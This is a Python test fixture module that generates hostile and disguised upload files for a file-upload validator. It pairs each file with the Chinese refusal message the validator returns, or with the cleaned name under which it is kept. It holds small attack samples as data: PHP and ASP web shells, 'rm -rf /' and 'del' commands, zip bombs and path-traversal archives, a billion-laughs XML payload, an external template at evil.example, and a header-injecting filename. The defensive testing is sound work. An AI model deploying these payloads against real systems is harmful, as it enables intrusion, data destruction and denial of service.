"""Files that mean harm, or look as if they did: made here, byte by byte, and never more than 20 MB.

CORPUS      what is refused: (what it is, name it comes under, bytes, the sentence that answers it)
TAMED       what is kept, but not as it came: (what it is, name, bytes, name it is kept under)
"""

import gzip
import io
import struct
import zipfile
import zlib
from collections.abc import Callable
from typing import NamedTuple

from PIL import Image, PngImagePlugin
from pillow_heif import from_pillow

# --- the sentences --------------------------------------------------------------------------------------------------
PROGRAM = "“{}”其实是程序，不是名字写的那种文件。请传照片或 PDF。"
SCRIPT = "“{}”其实是网页或脚本，不是名字写的那种文件。请传照片或 PDF。"
SVG = "“{}”是可能带脚本的矢量图（SVG）。请存成 PNG 或 PDF 再传。"
UNKNOWN = "认不出“{}”是什么文件。请存成 PDF，或者拍照上传。"
OTHER = "“{}”是 %s 文件，这里不收。请存成 PDF，或者拍照上传。"
EMPTY = "“{}”是空的。请重新选文件。"
LARGE = "“{}”有 21 MB，超过 20 MB。用手机重拍一张，或者存小一点再传。"
MACRO = "“{}”里带有宏（小程序），不能收。请另存为不带宏的文件，或者存成 PDF。"
LOCKED = "“{}”加了密码，打不开。请去掉密码再传，您传来的文件本来就不公开。"
TWO = "“{}”里混着两种文件，不能收。请重新存成 PDF，或者拍照上传。"
HALF = "“{}”不完整。请重新存成 PDF，或者拍照上传。"
BROKEN = "“{}”已经损坏，打不开。请重新保存一次再传。"
BAD_PICTURE = "“{}”已经损坏，显示不出来。请重拍一张，或者换一个文件。"
POINTS = "“{}”超过 %d00 万像素。请用普通尺寸重拍一张。"
BOMB = "“{}”解开以后太大了。请把材料一份一份上传。"
HOLDS = "“{}”里有程序或网页。请去掉它们，或者把材料一份一份上传。"
NESTED = "“{}”里还套着压缩包。请解开后把材料一份一份上传。"
OUTSIDE = "“{}”解开时会写到别的文件夹里，不能收。请重新打包，或者把材料一份一份上传。"
FETCHES = "“{}”打开时会从网上取内容，不能收。请另存为 PDF 再传。"


class Hostile(NamedTuple):
    what: str
    name: str
    make: Callable[[], bytes]
    says: str
    cleaned: str = ""  # the name as the sentence says it, where it was cleaned


class Tamed(NamedTuple):
    what: str
    name: str
    make: Callable[[], bytes]
    kept: str
    gone: bytes = b"\0no such thing\0"  # must not be in what is kept


# --- makers ---------------------------------------------------------------------------------------------------------
def plain(data: bytes) -> Callable[[], bytes]:
    return lambda: data


def image(form: str = "JPEG", size=(64, 48), mode: str = "RGB", **options) -> bytes:
    out = io.BytesIO()
    Image.new(mode, size, None if mode in ("1", "P", "L") else "teal").save(out, form, **options)
    return out.getvalue()


def heic() -> bytes:
    out = io.BytesIO()
    exif = Image.Exif()
    exif.get_ifd(0x8825)[1] = "N"
    picture = Image.new("RGB", (64, 48), "teal")
    from_pillow(picture).save(out, format="HEIF", exif=place().tobytes())
    return out.getvalue()


def place() -> Image.Exif:
    """EXIF that says where it was taken, by which phone."""
    exif = Image.Exif()
    exif[0x010F] = "GEHEIM-PHONE"
    exif.get_ifd(0x8825).update({1: "N", 2: (30.0, 15.0, 50.0), 3: "E", 4: (119.0, 58.0, 1.0)})
    return exif


def png_with(chunk: bytes, data: bytes) -> bytes:
    """A PNG with a chunk of ours before its end."""
    made, end = image("PNG"), image("PNG").rindex(b"\0\0\0\0IEND")
    extra = struct.pack(">I", len(data)) + chunk + data + struct.pack(">I", zlib.crc32(chunk + data))
    return made[:end] + extra + made[end:]


def sized_png(width: int, height: int, colour: int = 2) -> bytes:
    """A PNG that says it has so many points; a few bytes of them are there."""
    small = image("PNG")
    head = struct.pack(">4sIIBBBBB", b"IHDR", width, height, 8, colour, 0, 0, 0)
    return small[:12] + head + struct.pack(">I", zlib.crc32(head)) + small[33:]


def sized_gif(width: int, height: int) -> bytes:
    return b"GIF89a" + struct.pack("<HH", width, height) + image("GIF")[10:]


def sized_bmp(width: int, height: int) -> bytes:
    made = bytearray(image("BMP"))
    made[18:26] = struct.pack("<ii", width, height)
    return bytes(made)


def text_png() -> bytes:
    info = PngImagePlugin.PngInfo()
    info.add_text("Comment", "<script>alert(1)</script>")
    return image("PNG", pnginfo=info)


def box(*entries: tuple[str, bytes], method=zipfile.ZIP_DEFLATED) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", method) as made:
        for name, content in entries:
            made.writestr(zipfile.ZipInfo(name) if name.startswith("/") else name, content, compress_type=method)
    return out.getvalue()


TYPES = ("[Content_Types].xml", b"<Types/>")


def docx(*more: tuple[str, bytes], types: bytes = b"<Types/>") -> bytes:
    return box(("[Content_Types].xml", types), ("word/document.xml", b"<w/>"), *more)


def locked_zip() -> bytes:
    made = bytearray(box(("a.jpg", b"1")))
    made[6] |= 1
    made[made.index(b"PK\x01\x02") + 8] |= 1
    return bytes(made)


def broken_stream() -> bytes:
    """A docx whose list of parts cannot be unpacked."""
    made = bytearray(docx(types=b"<Types>" + bytes(range(250)) * 4 + b"</Types>"))
    start = 30 + len("[Content_Types].xml")
    made[start : start + 40] = b"\xff" * 40
    return bytes(made)


def quine() -> bytes:
    """Entries that say they are far larger than the file could ever hold."""
    made = bytearray(box(("a.txt", bytes(1000))))
    at = made.index(b"PK\x01\x02")
    made[at + 24 : at + 28] = struct.pack("<I", 0xFFFFFFF0)
    return bytes(made)


def crowded() -> bytes:
    """A zip with more names in it than anybody reads: 150 000 of them in 8 MB."""
    entry = b"PK\x01\x02" + struct.pack("<HHHHHHIIIHHHHHII", 20, 20, 0, 0, 0, 33, 0, 0, 0, 6, 0, 0, 0, 0, 0, 0)
    many = b"".join(entry + b"%06d" % n for n in range(150_000))
    head = b"PK\x03\x04" + bytes(26)
    return head + many + b"PK\x05\x06" + struct.pack("<HHHHIIH", 0, 0, 1, 1, len(many), len(head), 0)


def ole(*names: str) -> bytes:
    parts = b"".join(name.encode("utf-16-le") + bytes(64) for name in names)
    return b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600) + parts


PDF = b"%PDF-1.7\n1 0 obj\n<<>>\nendobj\n%%EOF\n"
LAUGHS = (
    b'<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol1 "&lol;&lol;&lol;">]><lolz>&lol1;</lolz>'
)
REMOTE = b'<Relationship Type="x/attachedTemplate" Target="http://evil.example/t.dotm" TargetMode="External"/>'

# --- refused --------------------------------------------------------------------------------------------------------
CORPUS = [
    # programs under the names of papers
    Hostile("Windows program", "身份证.jpg", plain(b"MZ\x90\0" + bytes(200)), PROGRAM),
    Hostile("Linux program", "表.pdf", plain(b"\x7fELF" + bytes(200)), PROGRAM),
    Hostile("Mac program", "a.png", plain(b"\xcf\xfa\xed\xfe" + bytes(200)), PROGRAM),
    Hostile("Java class", "a.doc", plain(b"\xca\xfe\xba\xbe" + bytes(200)), PROGRAM),
    Hostile("WebAssembly", "a.jpg", plain(b"\0asm\1\0\0\0" + bytes(99)), PROGRAM),
    Hostile("browser extension", "a.zip", plain(b"Cr24" + bytes(99)), PROGRAM),
    Hostile("shell script", "a.jpg", plain(b"#!/bin/sh\nrm -rf /\n"), PROGRAM),
    Hostile("Windows shortcut", "账单.pdf", plain(b"L\0\0\0\1\x14\2\0" + bytes(99)), OTHER % "LNK"),
    Hostile("batch file", "a.txt", plain(b"@echo off\r\ndel /q c:\\*\r\n"), UNKNOWN),
    Hostile("Visual Basic script", "a.doc", plain(b'CreateObject("WScript.Shell").Run "calc"\r\n'), UNKNOWN),
    Hostile("installer", "a.doc", lambda: ole("SummaryInformation", "Property"), UNKNOWN),
    Hostile("Flash", "a.jpg", plain(b"FWS\x0a" + bytes(200)), OTHER % "SWF"),
    Hostile("PostScript", "a.pdf", plain(b"%!PS-Adobe-3.0 EPSF-3.0\n(r) file\n"), OTHER % "EPS"),
    # pages and scripts
    Hostile("PHP", "a.jpg", plain(b"<?php system($_GET['c']); ?>"), SCRIPT),
    Hostile("short PHP tag", "a.png", plain(b"<?= `id` ?>"), SCRIPT),
    Hostile("ASP", "a.gif", plain(b"<%eval request(1)%>"), SCRIPT),
    Hostile("web page", "a.pdf", plain(b"<!DOCTYPE html><html><body onload=alert(1)>"), SCRIPT),
    Hostile("web page behind blanks and a comment", "a.pdf", plain(b"\xef\xbb\xbf  <!-- x -->\n<html>"), SCRIPT),
    Hostile("script tag in text", "a.doc", plain(b"hello <script>alert(1)</script>"), SCRIPT),
    Hostile("eval", "a.jpg", plain(b"var x = eval ('1');"), SCRIPT),
    Hostile("XML of a thousand laughs", "a.xls", plain(LAUGHS), SCRIPT),
    Hostile("SVG", "a.png", plain(b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'), SVG),
    Hostile("SVG behind a prolog", "a.jpg", plain(b'<?xml version="1.0"?><!-- --><SVG xmlns="x"><script/></SVG>'), SVG),
    Hostile("packed SVG", "a.png", lambda: gzip.compress(b"<svg/>"), OTHER % "GZ"),
    # pictures that are none, or too much of one
    Hostile("half a photo", "a.jpg", lambda: image(size=(900, 900))[:900], BAD_PICTURE),
    Hostile("a head and nothing else", "a.jpg", plain(b"\xff\xd8\xff\xe0" + bytes(40)), BAD_PICTURE),
    Hostile("GIF that is a script", "a.gif", plain(b"GIF89a/*" + bytes(9) + b"*/=1;alert(1)"), BAD_PICTURE),
    Hostile("BMP that is a script", "a.bmp", plain(b"BM/*  " + bytes(4) + b"*/=1;alert(1)" + bytes(60)), BAD_PICTURE),
    Hostile("HEIC of noughts", "a.heic", plain(b"\0\0\0\x18ftypheic" + bytes(200)), BAD_PICTURE),
    Hostile("WEBP of noughts", "a.webp", plain(b"RIFF\xff\0\0\0WEBPVP8 " + bytes(200)), BAD_PICTURE),
    Hostile("PNG bomb", "a.png", lambda: sized_png(60_000, 60_000), POINTS % 50),
    Hostile("PNG bomb with a clear ground", "a.png", lambda: sized_png(5000, 5000, 6), POINTS % 15),
    Hostile("PNG of one endless line", "a.png", lambda: sized_png(2_000_000_000, 1), POINTS % 50),
    Hostile("PNG of 36 million points in colour", "a.png", lambda: sized_png(6_000, 6_000), POINTS % 30),
    Hostile("GIF bomb", "a.gif", lambda: sized_gif(65_535, 65_535), POINTS % 50),
    Hostile("BMP bomb", "a.bmp", lambda: sized_bmp(40_000, 40_000), POINTS % 50),
    Hostile("51 million points", "a.jpg", lambda: image(size=(10_200, 5_000), mode="L", quality=1), POINTS % 50),
    Hostile("TIFF", "a.jpg", lambda: image("TIFF"), OTHER % "TIFF"),
    # papers
    Hostile("empty", "a.pdf", plain(b""), EMPTY),
    Hostile("21 MB", "a.pdf", lambda: b"%PDF-1.7" + bytes(21 * 1024 * 1024), LARGE),
    Hostile("PDF with a script in its head", "a.pdf", plain(b"%PDF-1.7\n<script>alert(1)</script>\n%%EOF"), SCRIPT),
    Hostile("PDF that is a page", "a.pdf", plain(b"%PDF-1.4\n<HTML><body>\n%%EOF"), SCRIPT),
    Hostile("PDF with a zip behind it", "a.pdf", lambda: PDF + box(("a.exe", b"1")), TWO),
    Hostile("half a PDF", "a.pdf", plain(PDF[:-7]), HALF),
    Hostile("RTF", "a.doc", plain(b"{\\rtf1\\object\\objdata 0105}"), OTHER % "RTF"),
    Hostile("macro letter", "信.docx", lambda: docx(("word/vbaProject.bin", b"x")), MACRO),
    Hostile("macro under another name", "信.docx", lambda: docx(types=b"vnd.ms-office.vbaProject"), MACRO),
    Hostile("macro letter renamed", "信.docx", lambda: docx(types=b"ms-word.document.macroEnabled.main+xml"), MACRO),
    Hostile("macro table", "账.xlsx", lambda: box(TYPES, ("xl/workbook.xml", b""), ("xl/vbaProject.bin", b"x")), MACRO),
    Hostile("old macro letter", "老.doc", lambda: ole("WordDocument", "_VBA_PROJECT"), MACRO),
    Hostile("old macro table", "老.xls", lambda: ole("Workbook", "_VBA_PROJECT_CUR", "_VBA_PROJECT"), MACRO),
    Hostile("template on a server", "信.docx", lambda: docx(("word/_rels/settings.xml.rels", REMOTE)), FETCHES),
    Hostile("locked letter", "信.docx", lambda: ole("EncryptedPackage"), LOCKED),
    Hostile("half a letter", "信.docx", lambda: docx()[:90], BROKEN),
    Hostile("letter whose parts cannot be read", "信.docx", broken_stream, BROKEN),
    # archives
    Hostile("zip bomb", "a.zip", lambda: box(("x.txt", bytes(40 * 1024 * 1024))), BOMB),
    Hostile("zip that lies about its size", "a.zip", quine, BOMB),
    Hostile("zip of 3000 papers", "a.zip", lambda: box(*((f"{n}.txt", b"") for n in range(3000))), BOMB),
    Hostile("zip whose list is the bomb", "a.zip", crowded, BOMB),
    Hostile("zip in a zip", "a.zip", lambda: box(("42.zip", box(("x", bytes(99))))), NESTED),
    Hostile("rar in a zip", "a.zip", lambda: box(("b/材料.RAR", b"Rar!")), NESTED),
    Hostile("locked zip", "a.zip", locked_zip, LOCKED),
    Hostile("program in a zip", "a.zip", lambda: box(("setup.exe", b"MZ")), HOLDS),
    Hostile("program with two suffixes in a zip", "a.zip", lambda: box(("账单.pdf.scr", b"MZ")), HOLDS),
    Hostile("page in a zip", "a.zip", lambda: box(("a/index.html", b"<html>")), HOLDS),
    Hostile("shortcut in a zip", "a.zip", lambda: box(("身份证.jpg.lnk", b"L")), HOLDS),
    Hostile("zip that climbs out", "a.zip", lambda: box(("../../etc/cron.d/x", b"1")), OUTSIDE),
    Hostile("zip with a drive", "a.zip", lambda: box(("C:\\Windows\\x.dll", b"1")), OUTSIDE),
    Hostile("zip from the root", "a.zip", lambda: box(("/etc/passwd", b"1")), OUTSIDE),
    Hostile("half a zip", "a.zip", lambda: box(("a.jpg", bytes(900)))[:70], BROKEN),
    Hostile("rar", "a.zip", plain(b"Rar!\x1a\7\1\0" + bytes(99)), OTHER % "RAR"),
    Hostile("7z", "a.zip", plain(b"7z\xbc\xaf\x27\x1c" + bytes(99)), OTHER % "7Z"),
    # names
    Hostile("program with two suffixes", "账单.pdf.exe", plain(b"MZ" + bytes(99)), PROGRAM),
    Hostile("name from right to left", "zhao\u202egpj.exe", plain(b"MZ" + bytes(99)), PROGRAM, "zhaogpj.exe"),
    Hostile("name with a way out", "../../a.php", plain(b"<?php"), SCRIPT, "a.php"),
    Hostile("name with a stream", "a.jpg::$DATA", plain(b"MZ" + bytes(9)), PROGRAM, "a.jpg__$DATA"),
]  # fmt: skip

# --- kept, but not as it came ---------------------------------------------------------------------------------------
TAMED = [
    Tamed("photo that says where it was taken", "照片.jpg", lambda: image(exif=place()), "照片.jpg", b"GEHEIM"),
    Tamed("PNG that says where", "照片.png", lambda: image("PNG", exif=place()), "照片.png", b"GEHEIM"),
    Tamed("WEBP that says where", "照片.webp", lambda: image("WEBP", exif=place()), "照片.jpg", b"GEHEIM"),
    Tamed("HEIC that says where", "IMG_1.HEIC", heic, "IMG_1.jpg", b"GEHEIM"),
    Tamed("PHP behind a photo", "a.jpg", lambda: image() + b"<?php system(1);", "a.jpg", b"php"),
    Tamed("PHP in a comment", "a.jpg", lambda: image(comment=b"<?php system(1);"), "a.jpg", b"php"),
    Tamed("script in a PNG's text", "a.png", text_png, "a.png", b"script"),
    Tamed("page in a PNG chunk", "a.png", lambda: png_with(b"heXX", b"<html>evil</html>"), "a.png", b"evil"),
    Tamed("zip behind a photo", "a.jpg", lambda: image() + box(("x.exe", b"MZevil")), "a.jpg", b"evil"),
    Tamed("PDF behind a photo", "a.jpg", lambda: image() + PDF, "a.jpg", b"%PDF"),
    Tamed("film behind a photo", "a.jpg", lambda: image() + b"ftypmp42" + bytes(99), "a.jpg", b"ftyp"),
    Tamed("photo called a program", "photo.php.jpg", image, "photo_php.jpg"),
    Tamed("photo from right to left", "an\u202egnp.exe.jpg", image, "angnp_exe.jpg"),
    Tamed("photo with a line break in its name", "a\r\nSet-Cookie: x.jpg", image, "aSet-Cookie_ x.jpg"),
    Tamed("photo called a shell's device", "C:\\con\\身份证.JPG ", image, "身份证.jpg"),
    Tamed("PDF called a program", "a.exe", plain(PDF), "a.pdf"),
    Tamed("letter called a page", "a.html", docx, "a.docx"),
]
